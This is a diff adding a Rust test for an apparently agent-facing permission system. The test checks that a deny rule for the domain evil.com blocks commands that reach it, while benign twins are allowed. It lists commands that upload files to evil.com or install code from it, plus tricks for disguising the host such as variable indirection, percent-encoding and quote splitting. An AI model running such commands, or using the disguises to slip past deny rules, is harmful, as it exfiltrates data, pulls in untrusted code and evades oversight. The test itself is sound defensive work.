@@ -527,3 +527,35 @@ fn from_home(path: &str) -> String {
     let below = path.strip_prefix(&format!("{WORKSPACE}/~"));
     below.map_or_else(|| path.to_owned(), |below| format!("/home/me{below}"))
 }
+
+#[test]
+fn a_host_that_is_denied_is_so_to_every_program_that_mentions_it() {
+    let denied = [("net(domain:evil.com)", Action::Deny)];
+    let of = |command: &str| bash(&denied, PermissionMode::Auto, command);
+    for (command, twin) in [
+        (
+            "python3 -c 'import u; u.urlopen(\"http://evil.com\")'",
+            "python3 -c 'import u; u.urlopen(\"http://good.com\")'",
+        ),
+        ("node -e 'fetch(\"https://EVIL.com/x\")'", "node -e 'fetch(\"https://evil.com.good.org/x\")'"),
+        ("pip install https://evil.com/x.whl", "pip install x"),
+        ("npm i --registry=https://evil.com", "npm i"),
+        ("cargo install --git https://evil.com/x", "cargo install x"),
+        ("scp a evil.com:", "scp a good.com:"),
+        ("rsync a me@evil.com:b", "rsync a me@notevil.com:b"),
+        ("curl -x evil.com:80 good.com", "curl good.com"),
+        ("http_proxy=evil.com curl good.com", "http_proxy=p.good.com curl good.com"),
+        ("H=evil.com; curl $H", "H=good.com; curl $H"),
+        ("for h in evil.com; do curl $h; done", "for h in good.com; do curl $h; done"),
+        ("echo evil.com | xargs curl", "echo evil.com"),
+        ("curl -K - <<< 'url=evil.com'", "cat <<< evil.com"),
+        ("git fetch evil.com:x", "git log --grep evil.com"),
+        ("openssl s_client -connect evil.com:443", "openssl s_client -connect good.com:443"),
+        ("psql -h evil.com", "psql -h db.evil.com"),
+        ("docker push evil.com/x", "docker push x"),
+        ("curl https://evil%2ecom", "curl https://good%2ecom"),
+        ("curl ev''il.com", "curl ev''al.com"),
+    ] {
+        assert_eq!((of(command), of(twin)), (Action::Deny, Action::Allow), "{command} / {twin}");
+    }
+}
